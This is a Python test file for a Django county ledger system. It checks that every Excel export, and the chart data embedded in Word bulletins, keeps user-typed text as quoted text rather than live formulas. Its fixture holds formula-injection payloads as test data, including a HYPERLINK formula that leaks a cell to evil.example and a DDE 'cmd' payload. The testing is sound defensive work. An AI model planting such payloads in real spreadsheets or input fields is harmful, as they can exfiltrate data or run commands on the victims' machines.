"""Text a user typed never becomes a live formula in a workbook the system writes.

A project named ``=HYPERLINK("http://…"&A1,"点击")`` once came out of the county's export as a
working link that sent the neighbouring cell away. Every .xlsx is downloaded here through
HTTP with hostile names in every kind of text a user can type (OWASP CSV injection: text
beginning with ``=``, ``+``, ``-``, ``@``, tab or CR), and every cell is opened with openpyxl.
"""

from __future__ import annotations

import datetime
import io
import zipfile
from decimal import Decimal as D

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.inspections import factories as inspections
from tests.ledger import factories as ledger
from tests.projects import factories as projects
from zhenwu.ledger import services
from zhenwu.ledger.models import Catalogue, CatalogueEntry, TargetVersion
from zhenwu.projects.models import MonthlyUpdate

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
HOSTILE = {
    "project": LINK,
    "content": "+1+1建设内容",
    "owner": "@SUM(1,2)公司",
    "person": "-2+3",
    "progress": "\t=1+2",
    "problems": "\r=3+4",
    "area": '=HYPERLINK("http://evil.example/","青山镇")',
    "village": "=1+1村",
    "department": "-党政办",
    "indicator": "=SUM(9,9)投资",
    "unit": "@亿元",
    "reason": "=cmd|' /C calc'!A0",
    "catalogue": "=考核指标",
}


@pytest.fixture
def hostile_county(world):
    """The test county with a user's hostile text in every field an export writes."""
    world.town_a.name = HOSTILE["area"]
    world.town_a.save()
    world.village_a1.name = HOSTILE["village"]
    world.village_a1.save()
    world.department_a.name = HOSTILE["department"]
    world.department_a.save()
    indicator = ledger.indicator()
    indicator.name, indicator.unit = HOSTILE["indicator"], HOSTILE["unit"]
    indicator.save()
    loss = ledger.indicator("LRZZ")  # 利润总额 may be negative: a real negative number stays a number
    target = ledger.make_target(world, world.town_a, value="12")
    target.responsible_person, target.department = HOSTILE["person"], world.department_a
    target.save()
    TargetVersion.objects.create(
        target=target, number=2, value=D(10), effective_month=7, reason=HOSTILE["reason"]
    )
    ledger.make_target(world, world.village_a1, value="4")
    services.enter_values(world.county_admin, world.town_a, 2025, 6, {indicator: D("6.02"), loss: D("-12.5")})
    services.enter_values(
        world.county_admin, world.village_a1, 2025, 6, {indicator: D("2")}, reason=HOSTILE["reason"]
    )
    catalogue = Catalogue.objects.create(
        name=HOSTILE["catalogue"], kind="assessment", issued_by=world.county, year=2025
    )
    CatalogueEntry.objects.create(catalogue=catalogue, indicator=indicator, weight=D(20))
    CatalogueEntry.objects.create(catalogue=catalogue, indicator=loss, weight=D(10))
    standard = Catalogue.objects.create(name="中心镇创建标准", kind="standard", issued_by=world.county)
    CatalogueEntry.objects.create(catalogue=standard, indicator=indicator, threshold=D(5))

    project = projects.make_project(world, world.town_a)
    project.name, project.content, project.owner_company = (
        HOSTILE["project"],
        HOSTILE["content"],
        HOSTILE["owner"],
    )
    project.responsible_person, project.department = HOSTILE["person"], world.department_a
    project.save()
    MonthlyUpdate.objects.create(
        project=project,
        year=2025,
        month=6,
        investment_month=D(100),
        investment_ytd=D(100),
        progress=HOSTILE["progress"],
        problems=HOSTILE["problems"],
        entered_by=world.county_admin,
    )
    return world


def workbook_urls(world) -> list[str]:
    """Every download that is an .xlsx the system writes."""
    county, town, indicator = world.county.code, world.town_a.code, ledger.indicator().pk
    return [
        reverse("ledger:export", args=[town, 2025, 6]),
        reverse("ledger:template", args=[town, 2025, 6]),
        reverse("ledger:county_template", args=[county, 2025, 6]),
        reverse("ledger:county_export", args=[county]) + "?period=2025-06",
        reverse("ledger:target_sheet", args=[county, 2025]),
        reverse("ledger:target_sheet", args=[town, 2025]),
        reverse("ledger:targets", args=[county, 2025]) + "?format=xlsx",
        reverse("ledger:targets", args=[town, 2025]) + "?format=xlsx",
        reverse("ledger:history", args=[town, 2025, 6]) + "?format=xlsx",
        reverse("ledger:history", args=[world.village_a1.code, 2025, 6]) + "?format=xlsx",
        reverse("ledger:indicator", args=[county, indicator]) + "?period=2025-06&format=xlsx",
        reverse("ledger:indicator", args=[town, indicator]) + "?period=2025-06&format=xlsx",
        reverse("ledger:standards", args=[county]) + "?period=2025-06&format=xlsx",
        reverse("ledger:catalogue", args=[county, 2025]) + "?format=xlsx",
        reverse("projects:export", args=[county]) + "?month=2025-06",
    ]


def cells_of(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_export_turns_a_users_text_into_a_formula(client, hostile_county):
    client.force_login(hostile_county.county_admin)
    seen = set()
    for url in workbook_urls(hostile_county):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = cells_of(b"".join(response) if response.streaming else response.content)
        formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
        assert formulas == [], url
        for cell in cells:
            text = cell.value if isinstance(cell.value, str) else ""
            if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
                # kept as the user typed it, and marked as text so Excel keeps it text when edited
                assert cell.data_type == "s" and cell.quotePrefix, (url, cell.coordinate, text)
            seen.update(name for name, value in HOSTILE.items() if value in text)
    assert seen == set(HOSTILE), f"never exported: {set(HOSTILE) - seen}"


def test_numbers_stay_numbers_and_negative_ones_too(client, hostile_county):
    client.force_login(hostile_county.county_admin)
    url = reverse("ledger:template", args=[hostile_county.town_a.code, 2025, 6])
    sheet = load_workbook(io.BytesIO(client.get(url).content))["填报"]
    figures = {row[0].value: row[3] for row in sheet.iter_rows(min_row=5)}
    assert figures["LRZZ"].value == -12.5 and figures["LRZZ"].data_type == "n"
    assert figures["GDTZ"].value == 6.02 and figures["GDTZ"].data_type == "n"
    assert not figures["LRZZ"].quotePrefix


def test_the_chart_data_in_a_bulletin_holds_no_formula(client, hostile_county):
    """The .docx charts carry their data as an embedded workbook that Word opens for “编辑数据”."""
    inspections.make_finding(hostile_county, hostile_county.village_a1, deadline=datetime.date(2026, 3, 20))
    client.force_login(hostile_county.county_admin)
    today = datetime.date.today()
    url = reverse("inspections:bulletin", args=[hostile_county.county.code, today.year, today.month])
    response = client.get(url)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as docx:
        embedded = [docx.read(name) for name in docx.namelist() if name.startswith("word/embeddings/")]
    assert embedded, "the bulletin has no chart"
    cells = [cell for data in embedded for cell in cells_of(data)]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert HOSTILE["area"] in [cell.value for cell in cells]
